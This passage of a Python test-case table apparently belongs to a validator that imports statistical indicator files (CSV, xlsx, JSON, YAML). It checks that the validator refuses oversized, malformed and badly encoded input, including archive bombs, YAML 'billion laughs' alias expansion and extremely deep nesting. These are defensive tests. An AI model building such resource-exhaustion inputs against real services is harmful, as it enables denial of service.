             Refused(None, None, ("more than 5 data rows",), code="file.rows"), env={"CHISO_VALUES_MAX_ROWS": "5"},
             postgres=True),
        Case("too-many-columns", "values", "chi.csv", values(OK1 + ",,,,", header=VALUES + ",a,b,c,d"),
             Refused(None, None, ("9 columns, more than 8",), code="file.columns"),
             env={"CHISO_FILE_MAX_COLUMNS": "8"}),
        Case("long-cell", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2026-07,430," + "á" * 51),
             Refused(3, "note", ("51 characters, more than 50",), code="cell.too_long"),
             env={"CHISO_FILE_MAX_CELL_CHARS": "50"}),
        Case("huge-row", "values", "chi.csv", values(OK1, "NS.CHI_NSDP,24,2026-07,430," + "x" * 1_000_000),
             Refused(3, "note", ("1,000,000 characters, more than 32,767",), code="cell.too_long"), postgres=True),
        Case("many-problems", "values", "chi.csv",
             values(*[f"NS.CHI_NSDP,24,2026-07,sai{i}," for i in range(3000)]),
             Refused(2, "value", ("not a number",), code="value.not_number", at_least=20),
             env={"CHISO_FILE_MAX_PROBLEMS": "20"}, postgres=True),
        # -- workbooks
        Case("xlsx-bomb", "values", "chi.xlsx", bomb,
             Refused(None, None, ("compressed", "archive bomb", "refused before unpacking"), code="file.ratio"),
             postgres=True),
        Case("xlsx-bomb-unpacked", "values", "chi.xlsx", bomb,
             Refused(None, None, ("would unpack to 2.0 GB", "refused before unpacking"), code="file.unpacked"),
             env={"CHISO_FILE_MAX_RATIO": "100000"}),
        Case("xlsx-not-zip", "values", "chi.xlsx", values(OK1), Refused(None, None, ("not an Excel workbook",),
                                                                          code="file.not_workbook")),
        Case("zip-without-workbook", "values", "chi.xlsx", zip_without_workbook,
             Refused(None, None, ("xl/workbook.xml",), code="file.not_workbook")),
        Case("xlsx-bad-value", "values", "chi.xlsx",
             lambda: workbook([VALUES.split(","), ["NS.CHI_NSDP", "24", "2026-01", 60],
                               ["NS.CHI_NSDP", "24", "2026-07", "bốn trăm"]]),
             Refused(3, "value", ("not a number",), code="value.not_number"), postgres=True),
        # -- JSON and JSON lines
        Case("json-not-array", "values", "chi.json", b'{"indicator": "NS.CHI_NSDP"}',
             Refused(None, None, ("a JSON submission is an array of objects",), code="file.json_shape")),
        Case("json-trailing-garbage", "values", "chi.json",
             ("[" + value_json("2026-01", "60") + "]\n]}rác").encode(),
             Refused(None, None, ("not valid JSON", "Extra data", "line 2"), code="file.bad_json"), postgres=True),
        Case("json-entry-not-object", "values", "chi.json", ("[" + value_json("2026-01", "60") + ', "60"]').encode(),
             Refused(2, None, ("each entry must be an object",), code="entry.not_object")),
        Case("json-deep", "values", "chi.json",
             ("[\n" + value_json("2026-01", "60") + ",\n" + value_json("2026-07", nested(100_000)) + "\n]").encode(),
             Refused(3, None, ("nested more than 32 deep",), code="file.depth"), postgres=True),
        Case("json-underflow", "values", "chi.json",
             ("[" + value_json("2026-01", "60") + ", " + value_json("2026-07", "1e-400") + "]").encode(),
             Refused(2, "value", ("too small to keep",), code="value.underflow"), postgres=True),
        Case("json-nul", "values", "chi.json",
             ("[\n" + value_json("2026-01", "60") + ",\n" + value_json("2026-07", "430", note="ghi\x00chú") + "\n]")
             .encode(),
             Refused(3, None, ("NUL",), code="file.nul"), postgres=True),
        Case("jsonl-deep", "values", "chi.jsonl",
             (value_json("2026-01", "60") + "\n" + value_json("2026-07", nested(100_000)) + "\n").encode(),
             Refused(2, None, ("nested more than 32 deep",), code="file.depth")),
        Case("jsonl-broken-line", "values", "chi.jsonl",
             (value_json("2026-01", "60") + "\n" + value_json("2026-02", "120") + "\n"
              + value_json("2026-07", "430")[:-1] + "\n").encode(),
             Refused(3, None, ("not valid JSON",)), postgres=True),
        Case("jsonl-line-not-object", "values", "chi.jsonl",
             (value_json("2026-01", "60") + "\n\n430\n").encode(),
             Refused(3, None, ("must be one JSON object",), code="line.not_object")),
        Case("jsonl-underflow", "values", "chi.jsonl",
             (value_json("2026-01", "60") + "\n" + value_json("2026-07", "1e-400") + "\n").encode(),
             Refused(2, "value", ("too small to keep",), code="value.underflow")),
        Case("jsonl-blank-lines-keep-numbers", "values", "chi.jsonl",
             (value_json("2026-01", "60") + "\n\n" + value_json("2026-07", '"mười"') + "\n").encode(),
             Refused(3, "value", ("not a number",), code="value.not_number")),
    ]


def _catalog() -> list[Case]:
    return [
        # -- what is not a catalogue
        Case("empty", "catalog", "danh-muc.yaml", b"", Refused(None, None, ("expected a mapping",))),
        Case("binary", "catalog", "danh-muc.yaml", garbage(), Refused(None, None, ("not UTF-8",)), postgres=True),
        Case("suffix", "catalog", "danh-muc.txt", catalogue_yaml().encode(),
             Refused(None, None, ("unsupported file type '.txt'",))),
        Case("too-big", "catalog", "danh-muc.yaml", catalogue_yaml().encode(),
             Refused(None, None, ("more than the 100 bytes",)), env={"CHISO_FILE_MAX_BYTES": "100"}),
        Case("top-level-list", "catalog", "danh-muc.yaml", b"- province: '24'\n",
             Refused(None, None, ("expected a mapping",))),
        Case("json-array", "catalog", "danh-muc.json", b"[]", Refused(None, None, ("expected a mapping",))),
        # -- encodings
        Case("cp1258", "catalog", "danh-muc.yaml", cp1258(catalogue_yaml()),
             Refused(None, None, ("not UTF-8", "Windows-1258", "line 5")), postgres=True),
        Case("utf16-no-bom", "catalog", "danh-muc.yaml", utf16_without_bom(catalogue_yaml()),
             Refused(None, None, ("UTF-16", "without a byte-order mark"))),
        Case("utf16-bom", "catalog", "danh-muc.yaml",
             utf16_with_bom(catalogue_yaml("TC.THU_UTF16", name="Chỉ số thử nghiệm đọc từ UTF-16")),
             Accepted((Entry("TC.THU_UTF16", "Chỉ số thử nghiệm đọc từ UTF-16"),)), postgres=True),
        Case("nfd-new", "catalog", "danh-muc.yaml", nfd(catalogue_yaml("TC.THU_NFD", name="Chỉ số viết tổ hợp")).encode(),
             Accepted((Entry("TC.THU_NFD", "Chỉ số viết tổ hợp"),))),
        Case("nfd-reimport", "catalog", "catalogue-24.yaml", lambda: nfd(sample_catalogue()).encode(),
             Accepted((Entry("NS.CHI_NSDP", "Chi ngân sách địa phương"),), unchanged=True,
                      again=lambda: sample_catalogue().encode()), postgres=True),
        Case("nfd-reimport-json", "catalog", "catalogue-24.json",
             lambda: nfd(json.dumps(yaml.safe_load(sample_catalogue()), ensure_ascii=False,
                                    default=str)).encode(),
             Accepted((Entry("XH.TIEM_CHUNG", "Tỷ lệ trẻ em dưới 1 tuổi được tiêm chủng đầy đủ"),), unchanged=True)),
        Case("nul", "catalog", "danh-muc.json", catalogue_json(name="Chỉ số\u0000 thử").encode(),
             Refused(7, None, ("NUL",)), postgres=True),
        Case("yaml-nul", "catalog", "danh-muc.yaml", catalogue_yaml(name='"Chỉ số\\0 thử"').encode(),
             Refused(5, None, ("NUL",))),
        # -- YAML and JSON themselves
        Case("yaml-syntax", "catalog", "danh-muc.yaml", catalogue_yaml(more="   - code: [lệch\n").encode(),
             Refused(13, None, ("not valid YAML",))),
        Case("yaml-billion-laughs", "catalog", "danh-muc.yaml", billion_laughs().encode(),
             Refused(2, None, ("anchors and aliases",)), postgres=True),
        Case("yaml-deep-flow", "catalog", "danh-muc.yaml",
             catalogue_yaml(more="    targets: " + nested(100_000) + "\n").encode(),
             Refused(13, None, ("nested more than 32 deep",)), postgres=True),
        Case("yaml-deep-block", "catalog", "danh-muc.yaml",
             catalogue_yaml(more="    targets:\n" + "".join(" " * (6 + 2 * i) + f"k{i}:\n" for i in range(40))
                            + " " * 86 + "v: 1\n").encode(),
             Refused(43, None, ("nested more than 32 deep",))),
        Case("json-deep", "catalog", "danh-muc.json",
             ('{"province": "24",\n"version": "2025.1",\n"indicators": ' + nested(100_000) + "}").encode(),
             Refused(3, None, ("nested more than 32 deep",)), postgres=True),
        Case("json-trailing-garbage", "catalog", "danh-muc.json", (catalogue_json() + "\n}").encode(),
             Refused(None, None, ("not valid JSON", "Extra data")),),
        # -- entries
        Case("unknown-owner", "catalog", "danh-muc.yaml", catalogue_yaml(owner="24-XYZ").encode(),
             Refused(12, "indicators[0].owner", ("unknown owner",)), postgres=True),
        Case("unknown-field", "catalog", "danh-muc.yaml", catalogue_yaml(field_="SPORT").encode(),
             Refused(9, "indicators[0].field", ("unknown field 'SPORT'",))),
        Case("bad-group", "catalog", "danh-muc.yaml", catalogue_yaml(group="kết quả").encode(),
             Refused(8, "indicators[0].group", ("TC.THU_NGHIEM",))),
        Case("duplicate-code", "catalog", "danh-muc.yaml",
             (catalogue_yaml() + catalogue_yaml().split("indicators:\n", 1)[1]).encode(),
             Refused(13, "indicators[1].code", ("duplicate code 'TC.THU_NGHIEM'",)), postgres=True),
        Case("formula-unknown", "catalog", "danh-muc.yaml",
             catalogue_yaml(more="    formula: TC.KHONG_CO * 2\n").encode(),
             Refused(13, "indicators[0].formula", ("names unknown indicator 'TC.KHONG_CO'",))),
        Case("json-entry", "catalog", "danh-muc.json", catalogue_json(owner="24-XYZ").encode(),
             Refused(None, "indicators[0].owner", ("unknown owner",))),
        # -- workbooks
        Case("xlsx-bomb", "catalog", "danh-muc.xlsx", bomb,
             Refused(None, None, ("compressed", "archive bomb", "refused before unpacking")), postgres=True),
        Case("xlsx-not-zip", "catalog", "danh-muc.xlsx", catalogue_yaml().encode(),
             Refused(None, None, ("not an Excel workbook",))),
        Case("zip-without-workbook", "catalog", "danh-muc.xlsx", zip_without_workbook,
             Refused(None, None, ("xl/workbook.xml",))),
        Case("xlsx-no-sheet", "catalog", "danh-muc.xlsx", lambda: workbook([["code"], ["TC.A"]], sheet="Trang tính"),
             Refused(None, None, ("has no sheet",))),
    ]


CASES: tuple[Case, ...] = tuple(_load() + _values() + _catalog())
